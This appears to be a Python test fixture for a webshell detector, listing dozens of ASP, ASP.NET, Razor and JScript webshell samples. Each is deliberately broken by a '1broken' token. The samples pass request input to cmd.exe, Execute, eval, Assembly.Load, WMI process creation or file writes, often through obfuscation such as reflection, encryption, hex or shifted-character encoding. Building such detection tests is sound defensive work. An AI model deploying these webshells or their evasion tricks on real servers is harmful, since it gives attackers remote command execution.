# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for ASP and ASP.NET by a third author: ways to read a request, and newer ways to write a call.

Counted before any change was made for them, then mended after; none can run, `1broken` stops each compiler.
"""

from tests.detection.webshell.second_samples import cut

NET = cut(
    r"""
==== alias.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { global::System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["z"]); }</script>
==== using-alias.ashx
<%@ WebHandler Language="C#" Class="A1" %>
using System.Web; using Zed = System.Diagnostics.Process; int 1broken;
public class A1 : IHttpHandler { public void ProcessRequest(HttpContext c) { Zed.Start("cmd.exe", "/c " + c.Request["z"]); } public bool IsReusable => true; }
==== using-static.ashx
<%@ WebHandler Language="C#" Class="A2" %>
using System.Web; using static System.Diagnostics.Process; int 1broken;
public class A2 : IHttpHandler { public void ProcessRequest(HttpContext c) { Start("cmd.exe", "/c " + c.Request["z"]); } public bool IsReusable => true; }
==== var-alias.ashx
<%@ WebHandler Language="C#" Class="A3" %>
using R = System.Reflection; int 1broken;
public class A3 : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) { var q = c.Request; var body = q.Form["z"]; R.Assembly.Load(System.Convert.FromBase64String(body)); } public bool IsReusable => false; }
==== local-function.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { string Ask(string n) => Request.Form[n]; void Go(string v) { System.Diagnostics.Process.Start("cmd", "/c " + v); } Go(Ask("z")); }</script>
==== task.aspx
<%@ Page Language="C#" Async="true" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var z = Request["z"]; System.Threading.Tasks.Task.Run(() => System.Diagnostics.Process.Start("cmd", "/c " + z)); }</script>
==== thread.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var t = new System.Threading.Thread(Work); t.Start(Request["z"]); } void Work(object o) { System.Diagnostics.Process.Start("cmd.exe", "/c " + (string)o); }</script>
==== interpolated.aspx
<%@ Page Language="C#" %><% int 1broken; var z = Request["z"]; System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", $"/c {z} 2>&1")); %>
==== format.aspx
<%@ Page Language="C#" %><% int 1broken; var i = new System.Diagnostics.ProcessStartInfo(); i.FileName = "cmd.exe"; i.Arguments = String.Format("/c {0}", Request["z"]); System.Diagnostics.Process.Start(i); %>
==== builder.aspx
<%@ Page Language="C#" %><% int 1broken; var b = new StringBuilder("/c "); b.Append(Request["z"]); System.Diagnostics.Process.Start("cmd", b.ToString()); %>
==== linq.aspx
<%@ Page Language="C#" %><% int 1broken; Request.Form.AllKeys.Where(k => k.StartsWith("z")).Select(k => Request.Form[k]).ToList().ForEach(v => System.Diagnostics.Process.Start("cmd", "/c " + v)); %>
==== get-values.aspx
<%@ Page Language="C#" %><% int 1broken; string[] v = Request.Form.GetValues("z"); if (v != null) System.Diagnostics.Process.Start("cmd", "/c " + v[0]); %>
==== parse-query.aspx
<%@ Page Language="C#" %><% int 1broken; var q = HttpUtility.ParseQueryString(Request.Url.Query); System.Diagnostics.Process.Start("cmd", "/c " + q["z"]); %>
==== unvalidated.aspx
<%@ Page Language="C#" %><% int 1broken; System.Diagnostics.Process.Start("cmd", "/c " + Request.Unvalidated.Form["z"]); %>
==== user-agent.aspx
<%@ Page Language="C#" %><% int 1broken; var u = Request.UserAgent; if (u.StartsWith("zz")) System.Diagnostics.Process.Start("cmd", u.Substring(2)); %>
==== referrer.aspx
<%@ Page Language="C#" %><% int 1broken; string r = Request.UrlReferrer.Query; System.Diagnostics.Process.Start("cmd", "/c " + Server.UrlDecode(r.TrimStart('?'))); %>
==== path-info.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim p As String = Request.PathInfo.Substring(1)
System.Diagnostics.Process.Start("cmd.exe", "/c " & Encoding.UTF8.GetString(Convert.FromBase64String(p))) %>
==== read-buffer.aspx
<%@ Page Language="C#" %><% int 1broken; byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length); Assembly.Load(b).CreateInstance("E"); %>
==== crypto.aspx
<%@ Page Language="C#" %><% int 1broken; if (Request.ContentLength > 0) { byte[] k = Encoding.Default.GetBytes(Session["k"] + ""), c = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); } %>
==== session-type.aspx
<%@ Page Language="C#" %><% int 1broken; byte[] d = Convert.FromBase64String(Context.Request["z"]); if (Context.Session["p"] == null) { Context.Session["p"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); } %>
==== compile.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var src = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["z"])); var r = System.CodeDom.Compiler.CodeDomProvider.CreateProvider("c#").CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters { GenerateInMemory = true }, src); r.CompiledAssembly.GetType("R").GetMethod("M").Invoke(null, null); }</script>
==== reverse.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; [DllImport("kernel32.dll")] static extern bool CreateProcess(string a, string c, IntPtr p, IntPtr t, bool i, uint f, IntPtr e, string d, ref SI s, out PI o); void b_Click(object s, EventArgs e) { CreateProcess(null, cmd.Text, IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref si, out pi); }</script><form runat="server"><asp:TextBox id="cmd" runat="server"/><asp:Button id="b" OnClick="b_Click" runat="server"/></form>
==== clsid.aspx
<%@ Page Language="C#" %><% int 1broken; dynamic w = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8"))); Response.Write(w.Exec("cmd /c " + Request["z"]).StdOut.ReadAll()); %>
==== expression-tree.aspx
<%@ Page Language="C#" %><% int 1broken; var m = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string) }); System.Linq.Expressions.Expression.Lambda<Action>(System.Linq.Expressions.Expression.Call(m, System.Linq.Expressions.Expression.Constant(Request["z"]))).Compile()(); %>
==== create-delegate.aspx
<%@ Page Language="C#" %><% int 1broken; var m = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string) }); var d = (Func<string, System.Diagnostics.Process>)Delegate.CreateDelegate(typeof(Func<string, System.Diagnostics.Process>), m); d(Request["z"]); %>
==== dynamic-invoke.aspx
<%@ Page Language="C#" %><% int 1broken; Func<string, string, System.Diagnostics.Process> f = System.Diagnostics.Process.Start; f.DynamicInvoke("cmd", "/c " + Request["z"]); %>
==== lambda.aspx
<%@ Page Language="C#" %><% int 1broken; Func<string, System.Diagnostics.Process> f = x => System.Diagnostics.Process.Start("cmd", "/c " + x); f(Request["z"]); %>
==== dictionary-lambda.aspx
<%@ Page Language="C#" %><% int 1broken; var d = new Dictionary<string, Action<string>> { { "run", x => System.Diagnostics.Process.Start("cmd", "/c " + x) } }; d[Request["a"]](Request["z"]); %>
==== switch-expression.ashx
<%@ WebHandler Language="C#" Class="A4" %>
int 1broken; public class A4 : IHttpHandler { public void ProcessRequest(HttpContext c) { var r = c.Request["a"] switch { "x" => Process.Start("cmd", "/c " + c.Request["z"]), _ => null }; } public bool IsReusable => true; }
==== pattern.aspx
<%@ Page Language="C#" %><% int 1broken; if (Request.Headers["X-Z"] is string v && v.Length > 0) { System.Diagnostics.Process.Start("cmd", "/c " + v); } %>
==== tuple.aspx
<%@ Page Language="C#" %><% int 1broken; var (f, a) = (Request["f"], Request["a"]); System.Diagnostics.Process.Start(f, a); %>
==== null-coalesce.aspx
<%@ Page Language="C#" %><% int 1broken; var z = Request.Cookies["z"]?.Value ?? Request["z"] ?? ""; System.Diagnostics.Process.Start("cmd", "/c " + z); %>
==== extension.ashx
<%@ WebHandler Language="C#" Class="A5" %>
int 1broken; static class X1 { public static void Go(this string v) { System.Diagnostics.Process.Start("cmd", "/c " + v); } }
public class A5 : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Request["z"].Go(); } public bool IsReusable => true; }
==== property-get.ashx
<%@ WebHandler Language="C#" Class="A6" %>
int 1broken; public class A6 : IHttpHandler { HttpContext cx; string Line => cx.Request["z"]; public void ProcessRequest(HttpContext c) { cx = c; System.Diagnostics.Process.Start("cmd", "/c " + Line); } public bool IsReusable => true; }
==== async-handler.ashx
<%@ WebHandler Language="C#" Class="A7" %>
int 1broken; public class A7 : HttpTaskAsyncHandler { public override async System.Threading.Tasks.Task ProcessRequestAsync(HttpContext c) { using (var r = new System.IO.StreamReader(c.Request.InputStream)) { var z = await r.ReadToEndAsync(); System.Diagnostics.Process.Start("cmd", "/c " + z); } } }
==== service.asmx
<%@ WebService Language="C#" Class="S1" %>
int 1broken; public class S1 : System.Web.Services.WebService { [System.Web.Services.WebMethod(EnableSession = true)] public string Do(string z) { var p = new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo("cmd.exe") { Arguments = "/c " + z } }; p.Start(); return ""; } }
==== vb-with.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Go(ByVal s As Object, ByVal e As EventArgs)
  Dim p As New System.Diagnostics.Process()
  With p.StartInfo
    .FileName = "cmd.exe"
    .Arguments = "/c " & z.Text
    .UseShellExecute = False
  End With
  p.Start()
End Sub
</script><form runat="server"><asp:TextBox id="z" runat="server"/><asp:Button OnClick="Go" runat="server"/></form>
==== vb-initialiser.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim i = New System.Diagnostics.ProcessStartInfo() With {.FileName = "cmd.exe", .Arguments = "/c " & Request("z")}
System.Diagnostics.Process.Start(i) %>
==== vb-lambda.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim f = Sub(x As String) System.Diagnostics.Process.Start("cmd.exe", "/c " & x)
f(Request("z")) %>
==== vb-createobject.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim w = Microsoft.VisualBasic.Interaction.CreateObject("WScript.Shell")
w.Run("cmd /c " & Request.Form("z"), 0, True) %>
==== transform.aspx
<%@ Page Language="C#" %><% int 1broken; var x = new System.Xml.XmlDocument(); x.LoadXml(Request["z"]); var t = new System.Xml.Xsl.XslCompiledTransform(); t.Load(x, System.Xml.Xsl.XsltSettings.TrustedXslt, null); t.Transform(new System.Xml.XmlDocument(), null, Response.Output); %>
==== viewstate.aspx
<%@ Page Language="C#" %><% int 1broken; ViewState["z"] = Request["z"]; System.Diagnostics.Process.Start("cmd", "/c " + (string)ViewState["z"]); %>
==== context-items.aspx
<%@ Page Language="C#" %><% int 1broken; HttpContext.Current.Items["z"] = Request["z"]; System.Diagnostics.Process.Start("cmd", "/c " + HttpContext.Current.Items["z"]); %>
==== save-first.aspx
<%@ Page Language="C#" %><% int 1broken; foreach (string k in Request.Files) { var f = Request.Files[k]; f.SaveAs(Server.MapPath("~/" + f.FileName)); } %>
==== write-stream.aspx
<%@ Page Language="C#" %><% int 1broken; using (var w = new System.IO.StreamWriter(new System.IO.FileStream(Request["p"], System.IO.FileMode.Create))) { w.Write(Request["z"]); } %>
==== web-client.aspx
<%@ Page Language="C#" %><% int 1broken; new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["p"])); %>
==== jscript-function.aspx
<%@ Page Language="JScript" %><% var 1broken; function Go(n : String) : String { return eval(Request.Form[n], "uns" + "afe"); } Go("z"); %>
==== jscript-new-function.aspx
<%@ Page Language="JScript" %><% var 1broken; var f = new Function("Response", Request.Item["z"]); f(Response); %>
==== comments.aspx
<%@ Page Language="C#" %><% int 1broken; System./*a*/Diagnostics./*b*/Process/*c*/./*d*/Start/**/("cm"+/*e*/"d","/c "+Request/*f*/["z"]); %>
==== verbatim.aspx
<%@ Page Language="C#" %><% int 1broken; var @z = @Request["z"]; System.Diagnostics.@Process.@Start(@"C:\Windows\System32\cmd.exe", @"/c " + @z); %>
==== razor-function.cshtml
@functions { int 1broken; string Go(string v) { var p = System.Diagnostics.Process.Start("cmd", "/c " + v); return p.StandardOutput.ReadToEnd(); } }
<pre>@Go(Request["z"])</pre>
==== razor-core.cshtml
@page
@using System.Diagnostics
@{ int 1broken; var z = HttpContext.Request.Query["z"].ToString(); Process.Start("cmd", "/c " + z); }
==== model.cshtml
@{ int 1broken; foreach (var k in Request.Form.Keys) { System.Diagnostics.Process.Start("cmd", "/c " + Request.Form[k]); } }
==== global-error.asax
<%@ Application Language="VB" %><script runat="server">
Dim 1broken
Sub Application_Error(ByVal s As Object, ByVal e As EventArgs)
  Dim q = HttpContext.Current.Request.Headers("X-Z")
  If q <> "" Then System.Diagnostics.Process.Start("cmd.exe", "/c " & q)
End Sub
</script>
==== master.master
<%@ Master Language="C#" %><script runat="server">int 1broken; protected void Page_Init(object s, EventArgs e) { var z = Page.Request.QueryString["z"]; if (z != null) System.Reflection.Assembly.Load(Convert.FromBase64String(z)).CreateInstance("E"); }</script>
"""
)
ASP = cut(
    r'''
==== terminate.asp
<% Dim 1broken
Class Z
 Public v
 Private Sub Class_Terminate()
  Execute v
 End Sub
End Class
Set o = New Z
o.v = Request("z")
Set o = Nothing %>
==== default-property.asp
<% Dim 1broken
Class Z
 Public Default Function Go(v)
  ExecuteGlobal v
 End Function
End Class
Set o = New Z
o(Request("z")) %>
==== on-error.asp
<% Dim 1broken
On Error Resume Next
For Each k In Request.QueryString
 For i = 1 To Request.QueryString(k).Count
  Execute Request.QueryString(k)(i)
 Next
Next %>
==== array.asp
<% Dim 1broken
Dim a(2)
a(0) = Request.Form("z")
a(1) = "x"
Execute(a(0)) %>
==== join.asp
<% Dim 1broken
a = Array(Request("a"), Request("b"), Request("c"))
ExecuteGlobal Join(a, vbCrLf) %>
==== byref.asp
<% Dim 1broken
Sub Fill(ByRef t)
 t = Request("z")
End Sub
Dim s
Fill s
Execute s %>
==== select.asp
<% Dim 1broken
Select Case Request("m")
Case "1": Execute Request("z")
Case Else: Response.Write "0"
End Select %>
==== hex-body.asp
<% Dim 1broken
Function H(s)
 Dim i, r
 For i = 1 To Len(s) Step 2
  r = r & Chr("&H" & Mid(s, i, 2))
 Next
 H = r
End Function
Execute H(Request.Form("z")) %>
==== control-object.asp
<% Dim 1broken
Set m = Server.CreateObject("MSScriptControl.ScriptControl.1")
m.Language = "VBScript"
m.AddObject "Request", Request
m.ExecuteStatement "ev" & "al(Request(""z""))" %>
==== moniker.asp
<% Dim 1broken
Set o = GetObject("script:" & Request("u")) %>
==== server-execute.asp
<% Dim 1broken
Set s = Server.CreateObject("ADODB.Stream")
s.Open : s.Type = 2
s.WriteText Request("z")
p = Server.MapPath("u.asp")
s.SaveToFile p, 2
Server.Execute "u.asp" %>
==== jet.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection")
c.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("a.mdb")
Set r = c.Execute("Select shell(""cmd /c " & Request("z") & """)") %>
==== shell-app.asp
<% Dim 1broken
Set s = CreateObject("Shell.Application")
s.NameSpace(Request("d")).ParseName(Request("f")).InvokeVerb "open" %>
==== wmi-get.asp
<% Dim 1broken
GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create Request("z"), Null, Null, p %>
==== locator.asp
<% Dim 1broken
Set l = Server.CreateObject("WbemScripting.SWbemLocator")
Set v = l.ConnectServer(".", "root\cimv2")
v.Get("Win32_Process").Create Request("z"), Null, Null, p %>
==== stream-up.asp
<% Dim 1broken
Set a = Server.CreateObject("ADODB.Stream")
a.Type = 1 : a.Open
a.Write Request.BinaryRead(Request.TotalBytes)
Set b = Server.CreateObject("ADODB.Stream")
b.Type = 1 : b.Open
a.Position = 100
a.CopyTo b, 2000
b.SaveToFile Server.MapPath("n.asp"), 2 %>
==== append.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
Set t = f.OpenTextFile(Request("p"), 8, True)
t.Write Request("z") %>
==== js-with.asp
<%@ language="JScript" %><% var 1broken; with (Request) { var z = Form("z") + ""; } eval(z); %>
==== js-object.asp
<%@ language="JScript" %><% var 1broken; var o = { go: function (v) { return eval(v); } }; o.go(String(Request.QueryString("z"))); %>
==== js-enumerator.asp
<%@ language="JScript" %><% var 1broken; for (var e = new Enumerator(Request.Form); !e.atEnd(); e.moveNext()) { var n = e.item(); eval(Request.Form(n) + ""); } %>
==== js-call.asp
<%@ language="JScript" %><% var 1broken; eval.call(null, String(Request("z"))); %>
==== js-apply.asp
<%@ language="JScript" %><% var 1broken; (function (a) { eval(a); })(Request("z")(1)); %>
==== js-activex.asp
<%@ language="JScript" %><% var 1broken; var w = new ActiveXObject("WScr" + "ipt.Shell"); Response.Write(w.Exec("cmd /c " + Request("z")).StdOut.ReadAll()); %>
==== rem.asp
<% Dim 1broken : x = Request("z") : Rem nothing : x = ""
If Not IsEmpty(x) Then : Execute(x) : End If %>
==== filter-letters.asp
<% Dim 1broken
q = Replace(Replace(Request("z"), "!", "("), "~", ")")
If Left(q, 2) = "ok" Then Execute Mid(q, 3) %>
==== xmlhttp-save.asp
<% Dim 1broken
Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
h.Open "GET", Request("u"), False
h.Send
Execute h.ResponseText %>
==== application.asp
<% Dim 1broken
Application.Lock
Application("z") = Request("z")
Application.Unlock
Execute Application("z") %>
==== request-object.asp
<% Dim 1broken
Set q = Request
Set f = q.Form
Execute f("z") %>
==== string-turn.asp
<% Dim 1broken
Function T(s)
 For i = Len(s) To 1 Step -1
  T = T & Mid(s, i, 1)
 Next
End Function
Execute T(")""z""(tseuqer lave") %>
==== add-one.asp
<% Dim 1broken
s = "Fydvuf!Sfrvftu)#{#*"
For i = 1 To Len(s)
 r = r & Chr(Asc(Mid(s, i, 1)) - 1)
Next
Execute r %>
==== if-then.asp
<%If 1broken Then%><%Else:Execute(Request.Cookies("z")):End If%>
'''
)
